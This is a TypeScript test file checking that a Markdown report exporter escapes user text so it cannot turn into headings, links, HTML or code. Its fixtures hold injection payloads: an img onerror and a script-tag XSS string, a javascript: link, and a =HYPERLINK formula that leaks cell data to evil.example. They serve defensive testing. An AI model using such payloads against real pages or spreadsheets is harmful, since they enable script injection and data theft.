import MarkdownIt, { type Token } from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { markdownText } from '../../../core/exchange/markdown';
import { escapeMarkdownInline, escapeMarkdownLines, markdownLink } from '../../../core/exchange/markdown-escape';
import { EXPORTED_AT, naughtyStrings, sampleSnapshot } from './support';

// Raw HTML on, as GitHub and most renderers allow it: escaping must keep it from appearing.
const md = new MarkdownIt({ html: true, linkify: false });
const snapshot = sampleSnapshot();
const report = markdownText(snapshot, { exportedAt: EXPORTED_AT });

function allTokens(tokens: Token[]): Token[] {
  return tokens.flatMap((t) => [t, ...allTokens(t.children ?? [])]);
}

/** The text a reader sees of rendered inline Markdown: text, code and line breaks. */
function visibleText(markdown: string): string {
  return allTokens(md.parseInline(markdown, {}))
    .map((t) => (t.type === 'text' || t.type === 'code_inline' ? t.content : t.type === 'softbreak' || t.type === 'hardbreak' ? '\n' : ''))
    .join('');
}

const SYNTAX_TOKENS = ['link_open', 'image', 'html_inline', 'html_block', 'em_open', 'strong_open', 's_open', 'code_inline', 'heading_open', 'bullet_list_open', 'ordered_list_open', 'blockquote_open', 'hr', 'table_open', 'fence', 'code_block'];

describe('Markdown report', () => {
  const tokens = allTokens(md.parse(report, {}));

  it('has a heading per article and per section, and nothing else as a heading', () => {
    const headings = tokens
      .filter((t, i, all) => t.type === 'inline' && all[i - 1]?.type === 'heading_open')
      .map((t) => `${tokens[tokens.indexOf(t) - 1]!.tag} ${visibleText(t.content)}`);
    expect(headings).toEqual([
      'h1 Marginalia report',
      `h2 <img src=x onerror=alert(1)> & "quotes" — =HYPERLINK("http://evil.example/?leak="&A1,"click me")`,
      'h3 Claims',
      'h3 Parties',
      'h2 الحكومة تعلن خطة جديدة للمياه',
      'h3 Claims',
      'h3 Highlights',
      'h3 Parties',
      'h2 Reading notes',
      'h3 Highlights',
      'h2 Parliament passes budget after all-night session',
      'h3 Claims',
      'h3 Highlights',
      'h3 Party mentions',
      'h3 Parties',
    ]);
  });

  it('links only to the articles and the evidence, never to anything a note or title says', () => {
    const links = tokens.filter((t) => t.type === 'link_open').map((t) => t.attrGet('href'));
    const expected = [
      ...snapshot.articles.map((a) => a.canonicalUrl ?? a.url),
      ...snapshot.annotations.flatMap((a) => a.claim?.evidence.map((e) => e.url) ?? []),
    ];
    expect([...links].sort()).toEqual([...expected].sort());
    expect(tokens.filter((t) => ['image', 'html_inline', 'html_block'].includes(t.type))).toEqual([]);
  });

  it('shows each claim with its claimant, subjects, verdict, evidence and note', () => {
    expect(report).toContain('1. > Unemployment has fallen to 4.1%, the lowest since records began');
    expect(report).toContain('   - Claimant: Maria Example');
    expect(report).toContain('   - About: Ministry of Finance, Example Statistics Office');
    expect(report).toContain('   - Verdict: **True**');
    expect(report).toContain('   - Evidence: Labour market, April 2024, <https://stats.example.gov/labour/2024-04>');
    expect(report).toContain('- **Maria Example** (person); also called Minister Example, M. Example; Finance minister since 2022.');
    const text = tokens.filter((t) => t.type === 'text').map((t) => t.content);
    expect(text).toContain('Note: =HYPERLINK("http://evil.example/?leak="&A1,"click me")');
  });

  it('keeps a multi-line note as lines of one item, none of them turning into Markdown', () => {
    const note = tokens.find((t) => t.type === 'inline' && t.content.startsWith('Note: \\# Not a heading'))!;
    expect(visibleText(note.content)).toBe(
      [
        'Note: # Not a heading',
        '- not a list',
        '+1 -1 @mention\ttab',
        '=1+1',
        '> not a quote',
        '| a | b |',
        '```code```',
        '<script>alert(1)</script> &amp; &#x41;',
      ].join('\n'),
    );
  });
});

describe('Markdown escaping', () => {
  const strings = naughtyStrings();

  it('renders every naughty string as exactly its text, with no Markdown or HTML made of it', () => {
    for (const s of strings) {
      const escaped = escapeMarkdownInline(s);
      const inlineTokens = allTokens(md.parseInline(escaped, {}));
      expect(inlineTokens.filter((t) => SYNTAX_TOKENS.includes(t.type)), JSON.stringify(s)).toEqual([]);
      const expected = s.replace(/\s*[\r\n]+\s*/g, ' ').trim().replace(/\u0000/g, '\ufffd');
      expect(visibleText(escaped), JSON.stringify(s)).toBe(expected);
    }
  });

  it('keeps every naughty string inside its block: no heading, list, quote, rule, table or code block', () => {
    for (const s of strings) {
      const block = allTokens(md.parse(`- Note: ${escapeMarkdownLines(s).join('\\\n  ')}`, {}));
      const types = new Set(block.map((t) => t.type));
      for (const type of ['heading_open', 'ordered_list_open', 'blockquote_open', 'hr', 'table_open', 'fence', 'code_block', 'html_block', 'link_open', 'image', 'html_inline']) {
        expect(types.has(type), `${type} from ${JSON.stringify(s)}`).toBe(false);
      }
      expect(block.filter((t) => t.type === 'bullet_list_open')).toHaveLength(1);
    }
  });

  it('makes links only of web addresses', () => {
    expect(markdownLink('https://example.org/a?b=1&c=(2)')).toBe('<https://example.org/a?b=1&c=(2)>');
    expect(markdownLink('javascript:alert(1)')).toBe('javascript:alert\\(1\\)');
    expect(markdownLink('not a url <b>')).toBe('not a url \\<b\\>');
  });
});
